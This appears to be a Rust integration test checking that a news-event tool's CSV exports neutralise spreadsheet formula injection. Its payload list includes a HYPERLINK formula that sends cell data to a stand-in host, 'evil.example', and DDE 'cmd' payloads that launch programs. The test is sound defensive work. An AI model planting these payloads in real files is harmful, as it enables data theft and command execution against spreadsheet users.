//! Issue 7: no CSV cell starts a spreadsheet formula, whatever the article says.

use crate::support::TestEnv;
use serde_json::json;

const PAYLOADS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
    "=1+2",
];

/// A cell a spreadsheet would run: starts with = + - @ tab or CR, and is not a plain number.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
        && !cell
            .trim_start_matches(['+', '-'])
            .chars()
            .all(|c| c.is_ascii_digit() || c == '.')
}

#[test]
fn no_cell_of_timeline_or_events_csv_starts_a_formula() {
    let env = TestEnv::new();
    let mut feed = String::new();
    for (i, p) in PAYLOADS.iter().enumerate() {
        let rec = json!({
            "id": format!("{p}{i}"),
            "title": p,
            "source": p,
            "url": format!("{p}/{i}"),
            "date": "2023-04-02",
            "text": format!("{p} Japan protested to China on Sunday over case {i}.\n\n{p}\nJapan imposed sanctions on China on Monday, case {i}."),
        });
        feed.push_str(&rec.to_string());
        feed.push('\n');
    }
    env.write("evil.jsonl", feed);
    let o = env.run(&["import", "evil.jsonl"]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    let mut checked = 0;
    for args in [
        &["timeline", "JP", "CN", "--format", "csv", "--no-merge"][..],
        &["events", "--format", "csv"][..],
    ] {
        let o = env.run(args);
        assert_eq!(o.code, 0, "{}", o.stderr);
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(o.stdout.as_bytes());
        let mut rows = 0;
        for rec in r.records() {
            let rec = rec.unwrap();
            rows += 1;
            for cell in rec.iter() {
                assert!(!is_formula(cell), "{args:?}: formula cell {cell:?}");
                checked += 1;
            }
        }
        assert!(rows > PAYLOADS.len(), "{args:?}: {}", o.stdout);
        // the payloads are still there, defused
        assert!(o.stdout.contains("'=HYPERLINK("), "{}", o.stdout);
        assert!(o.stdout.contains("'@SUM("), "{}", o.stdout);
        assert!(o.stdout.contains("'+cmd"), "{}", o.stdout);
        assert!(o.stdout.contains("'-2+3"), "{}", o.stdout);
    }
    assert!(checked > 100);
    // a plain negative number is left alone
    assert!(!is_formula("-12.5") && is_formula("-2+3") && is_formula("\t1"));
}
